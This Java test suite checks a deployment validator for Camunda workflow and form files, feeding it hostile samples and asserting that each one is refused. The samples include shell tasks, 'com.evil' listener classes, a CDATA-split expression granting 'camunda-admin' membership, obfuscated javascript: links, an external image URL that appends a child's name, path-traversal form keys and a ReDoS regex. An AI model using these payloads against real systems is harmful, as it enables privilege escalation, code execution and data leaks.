package org.rrp.workflow.modeling;

import static org.assertj.core.api.Assertions.assertThat;
import static org.rrp.workflow.modeling.ModelerDeployTest.process;
import static org.rrp.workflow.modeling.ModelerDeployTest.read;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;

import org.junit.jupiter.api.Test;
import org.rrp.workflow.casework.TaskDeadlines;
import org.rrp.workflow.referral.ReferralVariables;

/**
 * The deployment check without an engine, one attack at a time, as the engine would read each file: code named in
 * the old activiti namespace or without a prefix on Camunda's extension elements, expressions split by CDATA or a
 * comment, files the engine parses whatever their name ends in, form pages; each refused in a sentence that names
 * the file and element but never repeats what was entered.
 */
class DeploymentCheckTest {

  private static final String GOOD_TASK = "<bpmn:serviceTask id=\"Task_Act\" name=\"Act\""
      + " camunda:delegateExpression=\"${allocateAdvisorDelegate}\"/>";

  private final DeploymentCheck check = new DeploymentCheck(new ModelVocabulary(Set.of("allocateAdvisorDelegate"),
      Map.of("deadlines", TaskDeadlines.class), ApplicationVocabulary.caseVariableNames(),
      Set.of("identityService")), new DecisionTableCheck(new DecisionExamples()));

  private final DeploymentCheck.Lookups lookups = new DeploymentCheck.Lookups() {
    @Override
    public boolean groupExists(String groupId) {
      return "rrp-coordinators".equals(groupId);
    }

    @Override
    public boolean formDeployed(String formId) {
      return false;
    }
  };

  @Test
  void aProcessOfTheProjectsOwnKindPasses() {
    assertThat(problems("clean.bpmn", process("clean", GOOD_TASK + "<bpmn:intermediateCatchEvent id=\"Event_Wait\">"
        + "<bpmn:timerEventDefinition id=\"Timer_Wait\"><bpmn:timeDuration xsi:type=\"bpmn:tFormalExpression\">P1D"
        + "</bpmn:timeDuration></bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>"
        + "<bpmn:sequenceFlow id=\"Flow_1\" sourceRef=\"Task_Act\" targetRef=\"Event_Wait\"/>"))).isEmpty();
  }

  @Test
  void codeInTheOldActivitiNamespaceIsRefusedOutright() {
    String shell = process("shell", "<bpmn:serviceTask id=\"Task_Shell\" activiti:type=\"shell\"><bpmn:extensionElements>"
        + "<activiti:field name=\"command\"><activiti:string>touch</activiti:string></activiti:field>"
        + "</bpmn:extensionElements></bpmn:serviceTask>").replace("<bpmn:definitions ",
        "<bpmn:definitions xmlns:activiti=\"http://activiti.org/bpmn\" ");

    assertThat(problems("shell.bpmn", shell))
        .anySatisfy(problem -> assertThat(problem).contains("shell.bpmn", "Task_Shell", "activiti:type"))
        .anySatisfy(problem -> assertThat(problem).contains("Task_Shell", "element in the old activiti namespace"));
  }

  @Test
  void javaClassesAreRefusedWhetherPrefixedOrWrittenAsModelerWritesListeners() {
    Map<String, String> classes = new LinkedHashMap<>();
    classes.put("execution listener", GOOD_TASK.replace("/>", "><bpmn:extensionElements><camunda:executionListener"
        + " class=\"com.evil.Payload\" event=\"start\"/></bpmn:extensionElements></bpmn:serviceTask>"));
    classes.put("task listener", "<bpmn:userTask id=\"Task_Act\" camunda:candidateGroups=\"rrp-coordinators\""
        + " camunda:dueDate=\"${deadlines.due('triage')}\"><bpmn:extensionElements><camunda:taskListener"
        + " class=\"com.evil.Payload\" event=\"create\"/></bpmn:extensionElements></bpmn:userTask>");
    classes.put("prefixed on a listener", GOOD_TASK.replace("/>", "><bpmn:extensionElements><camunda:executionListener"
        + " camunda:class=\"com.evil.Payload\" event=\"start\"/></bpmn:extensionElements></bpmn:serviceTask>"));
    classes.put("service task", "<bpmn:serviceTask id=\"Task_Act\" camunda:class=\"com.evil.Payload\"/>");
    classes.put("variable mapping", "<bpmn:callActivity id=\"Task_Act\" calledElement=\"referral\""
        + " camunda:variableMappingClass=\"com.evil.Payload\"/>");
    classes.put("form handler", "<bpmn:startEvent id=\"Task_Act\" camunda:formHandlerClass=\"com.evil.Payload\"/>");
    classes.forEach((how, body) -> assertThat(problems("listener.bpmn", process("listener", body))).as(how)
        .anySatisfy(problem -> assertThat(problem).contains("listener.bpmn", "Task_Act", "names a Java class")
            .doesNotContain("com.evil")));
  }

  @Test
  void aCopyOfTheReferralCarryingAListenerIsRefused() {
    String referral = read("processes/referral.bpmn");
    String withListener = referral.replaceFirst("(<bpmn:process [^>]*>)",
        "$1<bpmn:extensionElements><camunda:executionListener class=\"com.evil.Payload\" event=\"start\"/>"
            + "</bpmn:extensionElements>");
    assertThat(withListener).isNotEqualTo(referral);

    assertThat(problems("referral.bpmn", withListener))
        .anySatisfy(problem -> assertThat(problem).contains("referral.bpmn", "process 'referral'", "Java class"));
  }

  @Test
  void everyOtherWayToRunCodeIsRefused() {
    Map<String, String> ways = new LinkedHashMap<>();
    ways.put("external task", "<bpmn:serviceTask id=\"Task_Act\" camunda:type=\"external\" camunda:topic=\"t\"/>");
    ways.put("mail task", "<bpmn:sendTask id=\"Task_Act\" camunda:type=\"mail\"/>");
    ways.put("script resource", "<bpmn:sequenceFlow id=\"Task_Act\" sourceRef=\"a\" targetRef=\"b\">"
        + "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\" camunda:resource=\"x.groovy\"/>"
        + "</bpmn:sequenceFlow>");
    ways.put("script language", "<bpmn:intermediateCatchEvent id=\"Task_Act\"><bpmn:conditionalEventDefinition>"
        + "<bpmn:condition xsi:type=\"bpmn:tFormalExpression\" language=\"javascript\">true</bpmn:condition>"
        + "</bpmn:conditionalEventDefinition></bpmn:intermediateCatchEvent>");
    ways.put("script parameter", "<bpmn:serviceTask id=\"Task_Act\" camunda:delegateExpression=\"${allocateAdvisorDelegate}\">"
        + "<bpmn:extensionElements><camunda:inputOutput><camunda:inputParameter name=\"x\"><camunda:script"
        + " scriptFormat=\"groovy\">1</camunda:script></camunda:inputParameter></camunda:inputOutput>"
        + "</bpmn:extensionElements></bpmn:serviceTask>");
    ways.put("connector", "<bpmn:serviceTask id=\"Task_Act\"><bpmn:extensionElements><camunda:connector>"
        + "<camunda:connectorId>http-connector</camunda:connectorId></camunda:connector></bpmn:extensionElements>"
        + "</bpmn:serviceTask>");
    ways.put("generated form's validator", "<bpmn:startEvent id=\"Task_Act\"><bpmn:extensionElements><camunda:formData>"
        + "<camunda:formField id=\"f\" type=\"string\"><camunda:validation><camunda:constraint name=\"validator\""
        + " config=\"com.evil.Validator\"/></camunda:validation></camunda:formField></camunda:formData>"
        + "</bpmn:extensionElements></bpmn:startEvent>");
    ways.forEach((how, body) -> assertThat(problems("ways.bpmn", process("ways", body))).as(how)
        .anySatisfy(problem -> assertThat(problem).contains("ways.bpmn", "'Task_Act'"))
        .allSatisfy(problem -> assertThat(problem).doesNotContain("groovy", "javascript", "com.evil", "http-connector")));
  }

  @Test
  void anExpressionSplitByCdataOrACommentIsReadWhole() {
    String admin = "identityService.createMembership('rosa','camunda-admin')}";
    for (String split : List.of("$<![CDATA[{]]>" + admin, "$<!-- c -->{" + admin, "<![CDATA[$]]>{" + admin)) {
      Map<String, String> places = new LinkedHashMap<>();
      places.put("input parameter", "<bpmn:serviceTask id=\"Task_Act\" camunda:delegateExpression="
          + "\"${allocateAdvisorDelegate}\"><bpmn:extensionElements><camunda:inputOutput><camunda:inputParameter"
          + " name=\"x\">" + split + "</camunda:inputParameter></camunda:inputOutput></bpmn:extensionElements>"
          + "</bpmn:serviceTask>");
      places.put("condition", "<bpmn:sequenceFlow id=\"Task_Act\" sourceRef=\"a\" targetRef=\"b\"><bpmn:conditionExpression"
          + " xsi:type=\"bpmn:tFormalExpression\">" + split + "</bpmn:conditionExpression></bpmn:sequenceFlow>");
      places.put("timer", "<bpmn:intermediateCatchEvent id=\"Task_Act\"><bpmn:timerEventDefinition><bpmn:timeDuration"
          + " xsi:type=\"bpmn:tFormalExpression\">" + split + "</bpmn:timeDuration></bpmn:timerEventDefinition>"
          + "</bpmn:intermediateCatchEvent>");
      places.put("field", "<bpmn:serviceTask id=\"Task_Act\" camunda:delegateExpression=\"${allocateAdvisorDelegate}\">"
          + "<bpmn:extensionElements><camunda:field name=\"f\"><camunda:expression>" + split
          + "</camunda:expression></camunda:field></bpmn:extensionElements></bpmn:serviceTask>");
      places.forEach((where, body) -> assertThat(problems("split.bpmn", process("split", body))).as(where + ": " + split)
          .anySatisfy(problem -> assertThat(problem).contains("split.bpmn", "'Task_Act'", "identityService")
              .doesNotContain("createMembership('rosa'")));
    }
  }

  @Test
  void aFileIsCheckedAsTheKindTheEngineTakesItForAndAnythingElseIsRefused() {
    String shell = process("suffix", "<bpmn:serviceTask id=\"Task_Shell\" camunda:type=\"shell\"/>");
    assertThat(problems("p_sfx_bpmn", shell)).singleElement().asString().contains("p_sfx_bpmn", "camunda:type");
    assertThat(problems("deployments/p.bpmn20.xml", shell)).singleElement().asString().contains("camunda:type");

    String juel = read("processes/area-by-district.dmn").replace("<inputExpression ",
        "<inputExpression expressionLanguage=\"juel\" ");
    assertThat(juel).isNotEqualTo(read("processes/area-by-district.dmn"));
    assertThat(problems("dsfx_dmn", juel)).isNotEmpty().allSatisfy(problem -> assertThat(problem)
        .contains("dsfx_dmn", "other than FEEL").doesNotContain("juel"));

    for (String other : List.of("evil.html", "evil.js", "case.cmmn", "diagram.png", "SHOUTED.BPMN")) {
      assertThat(problems(other, "<script cam-script>alert(1)</script>")).as(other).singleElement().asString()
          .contains(other, "is not a BPMN diagram, DMN table or Camunda Form");
    }
  }

  @Test
  void aFormShowsOnlyWhatItHoldsItselfNothingLoadedFromAnAddress() throws Exception {
    for (java.nio.file.Path form : java.nio.file.Files.newDirectoryStream(java.nio.file.Path.of("forms"), "*.form")) {
      assertThat(problems(form.getFileName().toString(), java.nio.file.Files.readString(form))).as(form.toString()).isEmpty();
    }
    String secret = "Entered-" + System.nanoTime();
    Map<String, String> refused = new java.util.LinkedHashMap<>();
    refused.put("{\"type\":\"iframe\",\"id\":\"Frame_1\",\"url\":\"https://example.org/" + secret + "\"}", "Frame_1 (iframe)");
    refused.put("{\"type\":\"html\",\"id\":\"Html_1\",\"content\":\"<b>" + secret + "</b>\"}", "Html_1 (html)");
    refused.put("{\"type\":\"image\",\"id\":\"Image_1\",\"source\":\"https://example.org/" + secret + ".png\"}", "Image_1 (image)");
    refused.put("{\"type\":\"image\",\"id\":\"Image_2\",\"source\":\"=\\\"https://example.org/?\\\" + " + org.rrp.workflow.casework.CaseVariables.CHILD_NAME + "\"}", "Image_2 (image)");
    refused.put("{\"type\":\"text\",\"id\":\"Text_1\",\"text\":\"[" + secret + "](Java\\tScript:alert(1))\"}", "Text_1 (text)");
    refused.put("{\"type\":\"text\",\"id\":\"Text_2\",\"text\":\"[" + secret + "](javascript&#58;alert(1))\"}", "Text_2 (text)");
    refused.put("{\"type\":\"text\",\"id\":\"Text_3\",\"text\":\"[" + secret + "](javascript&colon;alert(1))\"}", "Text_3 (text)");
    refused.put("{\"type\":\"text\",\"id\":\"Text_4\",\"text\":\"[" + secret + "](javascript%3Aalert(1))\"}", "Text_4 (text)");
    refused.put("{\"type\":\"text\",\"id\":\"Text_5\",\"text\":\"=\\\"[" + secret + "](java\\\" + \\\"script:alert(1))\\\"\"}", "Text_5 (text)");
    refused.put("{\"type\":\"text\",\"id\":\"Text_7\",\"text\":\"[" + secret + "](javascript\\\\:alert(1))\"}", "Text_7 (text)");
    refused.put("{\"type\":\"text\",\"id\":\"Text_8\",\"text\":\"![" + secret + "](https://example.org/i.png?c={{caseReference}})\"}", "Text_8 (text)");
    refused.put("{\"type\":\"text\",\"id\":\"Text_9\",\"text\":\"<IMG alt=x SRC='https://example.org/" + secret + ".png'>\"}", "Text_9 (text)");
    refused.put("{\"type\":\"text\",\"id\":\"Text_6\",\"text\":\"[" + secret + "]({{\\\"java\\\"}}script:alert(1))\"}", "Text_6 (text)");
    refused.forEach((component, named) -> {
      String nested = "{\"id\":\"probe\",\"type\":\"default\",\"components\":[{\"type\":\"group\",\"id\":\"Group_1\","
          + "\"components\":[" + component + "]}]}";
      assertThat(problems("probe.form", nested)).as(named).singleElement().asString()
          .contains("probe.form", named).doesNotContain(secret, "example.org", org.rrp.workflow.casework.CaseVariables.CHILD_NAME);
    });
    String embedded = "{\"id\":\"probe\",\"type\":\"default\",\"components\":[{\"type\":\"image\",\"id\":\"Logo\","
        + "\"source\":\"data:image/png;base64,iVBORw0KGgo=\"},{\"type\":\"text\",\"id\":\"Help\",\"text\":\"[Guide](https://example.org/guide)"
        + " ![Logo](data:image/png;base64,iVBORw0KGgo=)\"}]}";
    assertThat(problems("probe.form", embedded)).isEmpty();
    String escapes = embedded.replace("[Guide](https://example.org/guide)", "Costs 100%24 or 5%5C%2 a day, 50% off");
    assertThat(problems("probe.form", escapes)).as("percent-escapes of $ and \\ read as text").isEmpty();
  }

  @Test
  void aFormShowingWhatPeopleTypeAsMarkdownIsRefusedAsTheProjectsOwnFormsAreHeld() throws Exception {
    String triage = java.nio.file.Files.readString(java.nio.file.Path.of("forms/triage-request.form"));
    assertThat(problems("triage-request.form", triage)).isEmpty();

    String difficulty = org.rrp.workflow.casework.CaseVariables.DIFFICULTY;
    String templated = triage.replace("\"components\": [", "\"components\": [{\"type\": \"text\", \"id\": \"Text_stuck\","
        + " \"text\": \"**What is stuck:** {{" + difficulty + "}}\"},");
    assertThat(templated).isNotEqualTo(triage);
    assertThat(problems("triage-request.form", templated)).singleElement().asString()
        .contains("triage-request.form", "Text_stuck", difficulty, "read-only");

    // a typed field of the deployment's own forms counts too, in another of its forms
    Map<String, byte[]> twoForms = new java.util.LinkedHashMap<>();
    twoForms.put("ask.form", ("{\"id\": \"ask\", \"components\": [{\"type\": \"textarea\", \"id\": \"Field_worry\","
        + " \"key\": \"worry\", \"label\": \"Worry\"}]}").getBytes(StandardCharsets.UTF_8));
    twoForms.put("show.form", ("{\"id\": \"show\", \"components\": [{\"type\": \"text\", \"id\": \"Text_worry\","
        + " \"text\": \"=\\\"Worry: \\\" + worry\"}]}").getBytes(StandardCharsets.UTF_8));
    assertThat(check.problems(twoForms, lookups)).singleElement().asString().contains("show.form", "Text_worry", "worry");
  }

  @Test
  void formPagesAreRefusedOnTasksAndStartEvents() {
    for (String formKey : List.of("embedded:deployment:evil.html", "https://evil.example/form.html",
        "app:../../evil.html", "camunda-forms:deployment:triage-request.form")) {
      for (String element : List.of("userTask", "startEvent")) {
        String body = "<bpmn:" + element + " id=\"Task_Form\" camunda:formKey=\"" + formKey + "\""
            + " camunda:candidateGroups=\"rrp-coordinators\" camunda:dueDate=\"${deadlines.due('triage')}\"/>";
        assertThat(problems("form-page.bpmn", process("form-page", body))).as(element + " " + formKey).singleElement()
            .asString().contains("form-page.bpmn", "Task_Form", "camunda:formKey", "camunda:formRef")
            .doesNotContain(formKey);
      }
    }
  }

  @Test
  void refusalsNameTheFieldButNeverRepeatWhatWasEntered() {
    String body = "<bpmn:userTask id=\"Task_Do\" name=\"Call Jane Smith on 07700 900123\""
        + " camunda:candidateGroups=\"jane-smiths-team\" camunda:formRef=\"jane-smith-form\""
        + " camunda:formRefBinding=\"deployment\" camunda:dueDate=\"${deadlines.due('triage')}\"/>"
        + "<bpmn:sequenceFlow id=\"Flow_Odd\" sourceRef=\"a\" targetRef=\"b\"><bpmn:conditionExpression"
        + " xsi:type=\"bpmn:tFormalExpression\" language=\"jane-smith-script\">x</bpmn:conditionExpression>"
        + "</bpmn:sequenceFlow><bpmn:serviceTask id=\"Task_Act\" camunda:expression=\"${janeSmith07700 + 1}\"/>"
        + "<bpmn:serviceTask id=\"Task_Broken\" camunda:expression=\"${'Jane Smith' +}\"/>";
    List<String> problems = problems("names.bpmn", process("names", body));

    assertThat(problems).hasSize(5).allSatisfy(problem -> assertThat(problem).contains("names.bpmn")
        .doesNotContainIgnoringCase("Jane").doesNotContain("07700"));
    assertThat(String.join(" ", problems)).contains("camunda:candidateGroups", "camunda:formRef", "Task_Do", "Flow_Odd",
        "Task_Act", "Task_Broken", "syntax error", "neither a bean");

    String table = read("processes/area-by-district.dmn").replace("<text>&quot;tamworth&quot;</text>",
        "<text>&quot;tamworth</text>");
    assertThat(problems("area-by-district.dmn", table))
        .anySatisfy(problem -> assertThat(problem).contains("area-by-district.dmn", "Rule_Tamworth", "correct the rule"))
        .allSatisfy(problem -> assertThat(problem).doesNotContain("tamworth", ReferralVariables.SETTING_DISTRICT));
    assertThat(problems("broken.bpmn", "<bpmn:definitions xmlns:bpmn=\"x\"><secret-value"))
        .singleElement().asString().contains("broken.bpmn", "line 1").doesNotContain("secret-value");
  }

  @Test
  void aFeelExpressionThatCouldRunWithoutEndIsRefusedButItsWordsInTextAreNot() {
    String table = read("processes/area-by-district.dmn");
    String eastOutput = "<text>&quot;area-east-staffs-tamworth&quot;</text>";
    assertThat(table).contains(eastOutput);
    for (String unbounded : List.of("string(count(for i in 1..200000 return i))", "if some x in [1,2] satisfies x > 1"
        + " then &quot;a&quot; else &quot;b&quot;", "(function(n) n)(1)", "replace(&quot;aaaa&quot;, &quot;(a+)+$&quot;, &quot;&quot;)")) {
      assertThat(problems("loop.dmn", table.replace(eastOutput, "<text>" + unbounded + "</text>"))).as(unbounded)
          .anySatisfy(problem -> assertThat(problem).contains("loop.dmn", "Rule_EastStaffordshire_Out1", "FEEL loop")
              .doesNotContain("200000"));
    }
    assertThat(problems("words.dmn", table.replace(eastOutput,
        "<text>&quot;for every setting in the area, some replace(x)&quot;</text>")))
        .as("the words in a string").noneMatch(problem -> problem.contains("FEEL loop"));
  }

  @Test
  void aFileNestedDeeperThanModelerWritesIsRefusedInOneSentenceWithoutOverflowing() {
    String deep = process("deep", "<bpmn:extensionElements>" + "<a>".repeat(60_000) + "</a>".repeat(60_000)
        + "</bpmn:extensionElements>");
    assertThat(problems("deep.bpmn", deep)).singleElement().asString().contains("deep.bpmn", "nested deeper than 200");
    assertThat(problems("deep.dmn", read("processes/area-by-district.dmn").replace("</definitions>",
        "<extensionElements>" + "<a>".repeat(60_000) + "</a>".repeat(60_000) + "</extensionElements></definitions>")))
        .singleElement().asString().contains("deep.dmn", "nested deeper than 200");
  }

  @Test
  void aRefusalTellsTwentyProblemsAndHowManyMore() {
    List<String> many = java.util.stream.IntStream.range(0, 1_000).mapToObj(i -> "Problem " + i + ".").toList();
    assertThat(DeploymentRefusedException.told(many)).hasSize(21).startsWith("Problem 0.")
        .endsWith("There are 980 more problems: correct these first.");
    assertThat(new DeploymentRefusedException(many).getMessage().length()).isLessThan(1_000);
    assertThat(DeploymentRefusedException.told(many.subList(0, 20))).hasSize(20);
  }

  private List<String> problems(String name, String content) {
    return check.problems(Map.of(name, content.getBytes(StandardCharsets.UTF_8)), lookups);
  }
}
